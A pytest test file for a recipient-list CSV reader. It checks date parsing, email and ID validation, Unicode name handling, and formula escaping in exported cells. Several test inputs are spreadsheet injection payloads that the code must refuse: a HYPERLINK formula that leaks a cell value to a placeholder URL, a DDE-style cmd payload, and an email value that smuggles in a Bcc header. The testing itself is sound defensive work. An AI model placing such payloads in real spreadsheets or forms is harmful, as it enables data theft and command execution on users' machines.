"""Names, dates, addresses: what is taken, what is refused and with which words."""

import unicodedata
from datetime import date

import pytest
from hypothesis import given
from hypothesis import strategies as st

from factories.class_lists import TODAY
from skillseal.credentials.recipients import read, safe_cell
from skillseal.credentials.recipients.cells import date_of, name_of, text_of
from skillseal.credentials.recipients.model import Limits
from skillseal.findings import Finding

LIMITS = Limits()


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("1998-05-03", date(1998, 5, 3)),
        (" 1998-05-03 ", date(1998, 5, 3)),
        ("1998-05-03T00:00:00", date(1998, 5, 3)),
        ("03.05.1998", date(1998, 5, 3)),
        ("3.5.1998", date(1998, 5, 3)),
        ("3. 5. 1998.", date(1998, 5, 3)),
        ("25/12/1998", date(1998, 12, 25)),
        ("12/25/1998", date(1998, 12, 25)),
        ("05/05/1998", date(1998, 5, 5)),
        ("2024-02-29", date(2024, 2, 29)),
        ("01/02/2026", "list.date_ambiguous"),
        ("1-2-2026", "list.date_ambiguous"),
        ("45291", "list.date_number"),
        ("45291.0", "list.date_number"),
        ("2026-02-30", "list.date_impossible"),
        ("31.04.2026", "list.date_impossible"),
        ("2023-02-29", "list.date_impossible"),
        ("31/31/2026", "list.date_impossible"),
        ("1998-05-03 CET", "list.date_unreadable"),
        ("1998-05-03T22:00:00Z", "list.date_unreadable"),
        ("3 May 1998", "list.date_unreadable"),
        ("03.05.98", "list.date_unreadable"),
        ("1998", "list.date_unreadable"),
        ("١٩٩٨-٠٥-٠٣", "list.date_unreadable"),
        ("0000-00-00", "list.date_impossible"),
        ("=TODAY()", "list.date_unreadable"),
    ],
)
def test_dates(written: str, expected: date | str) -> None:
    found = date_of(written, LIMITS)
    assert (found.code if isinstance(found, Finding) else found) == expected


@given(st.dates(min_value=date(1900, 1, 1), max_value=date(2100, 1, 1)))
def test_every_iso_date_is_read_as_itself(day: date) -> None:
    assert date_of(day.isoformat(), LIMITS) == day
    assert date_of(f"{day.day}.{day.month}.{day.year}", LIMITS) == day


@pytest.mark.parametrize(
    ("column", "value", "code"),
    [
        ("birth_date", "2026-11-03", "list.date_future"),
        ("birth_date", "1850-01-01", "list.date_too_early"),
        ("awarded_on", "2027-01-01", "list.date_future"),
        ("awarded_on", "01/02/2026", "list.date_ambiguous"),
        ("email", "ani", "list.email"),
        ("email", "ani@example", "list.email"),
        ("email", "ani@example.org, bo@example.org", "list.email"),
        ("email", "ani@example.org\r\nBcc: all@example.org", "list.email"),
        ("email", "=ani@example.org", "list.email"),
        ("email", "a" * 250 + "@example.org", "list.email"),
        ("national_id", "=1+1", "list.national_id"),
        ("national_id", "x" * 65, "list.national_id"),
        ("national_id_country", "Armenia", "list.country"),
        ("national_id_country", "XX", "list.country"),
        ("grade", "=A1", "list.text_formula"),
        ("name_latin", "+Ani", "list.name_formula"),
    ],
)
def test_a_wrong_cell_has_its_line_and_column(column: str, value: str, code: str) -> None:
    quoted = value.replace('"', '""')
    found = read(f'name,{column}\nBo,\nAni,"{quoted}"\n'.encode(), today=TODAY)
    wrong = [finding for finding in found.findings if finding.code == code]
    assert [(finding.params["line"], finding.params["column"]) for finding in wrong] == [(3, column)]
    assert found.rows == ()
    assert [row.learner.full_name for row in found.readable] == ["Bo"]


@pytest.mark.parametrize(
    "name",
    [
        "Անի Պետրոսյան",
        "ნინო ბერიძე",
        "Ђорђе Јовановић",
        "Іван Котляревський",
        "فاطمة الزهراء",
        "שרה לוי",
        "Nguyễn Thị Ánh",
        "D'Artagnan",
        "'t Hooft",
        "Anne-Marie O’Neill",
        "Ani 👩🏽‍🎓",
        "Mononym",
        "李",
        "Á" * 300,
        "King Charles III",
        "Ana-María",
    ],
)
def test_names_are_kept_exactly(name: str) -> None:
    (row,) = read(f"full_name\n{name}\n".encode(), today=TODAY).rows
    assert row.learner.full_name == unicodedata.normalize("NFC", name)


def test_names_are_composed_but_not_changed() -> None:
    (row,) = read("full_name\n\u00a0Żaneta\u00a0 \u200fMu\u0308ller \n".encode(), today=TODAY).rows
    assert row.learner.full_name == "Żaneta\u00a0 \u200fMüller"


@pytest.mark.parametrize(
    ("name", "code"),
    [
        ('=HYPERLINK("http://x?"&A1)', "list.name_formula"),
        ("+cmd|'/C calc'!A0", "list.name_formula"),
        ("-Ani", "list.name_formula"),
        ("@SUM(A1)", "list.name_formula"),
        ("＝Ani", "list.name_formula"),
        ("'=Ani", "list.name_formula"),
        ("\ufeff=Ani", "list.name_formula"),
        ("12345", "list.name_without_letter"),
        ("—", "list.name_without_letter"),
        ("A" * 501, "list.name_too_long"),
        ("An\u0007i", "list.control_character"),
        ("Ani\u202enairtsuA", "list.control_character"),
        ("M\ufffdller", "list.lost_letter"),
        ("JÃ¼rgen", "list.broken_letters"),
        ("x" * 3000, "list.cell_too_long"),
    ],
)
def test_names_that_are_refused(name: str, code: str) -> None:
    found = read(('full_name\n"' + name.replace('"', '""') + '"\n').encode(), today=TODAY)
    assert [finding.code for finding in found.findings] == [code]
    assert all(len(finding.message) < 300 for finding in found.findings)


@given(st.text(max_size=600))
def test_a_name_is_kept_or_refused_never_changed_in_silence(text: str) -> None:
    value = text_of(text, LIMITS)
    if isinstance(value, str) and name_of(value, LIMITS) is None:
        assert value == unicodedata.normalize("NFC", value)
        assert "".join(value.split()) == "".join(unicodedata.normalize("NFC", text).strip().strip("\ufeff").split())


@pytest.mark.parametrize(
    "dangerous", ["=1", "+1", "-1", "@a", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠a", '"=1', "\ufeff=1", "\n=1", "'=1"]
)
def test_exported_cells_are_no_formulas(dangerous: str) -> None:
    assert safe_cell(dangerous) == "'" + dangerous


@pytest.mark.parametrize("harmless", ["Ani", "'t Hooft", "", "5", "Անի", "a=b", "ani@example.org"])
def test_other_cells_are_exported_as_they_are(harmless: str) -> None:
    assert safe_cell(harmless) == harmless
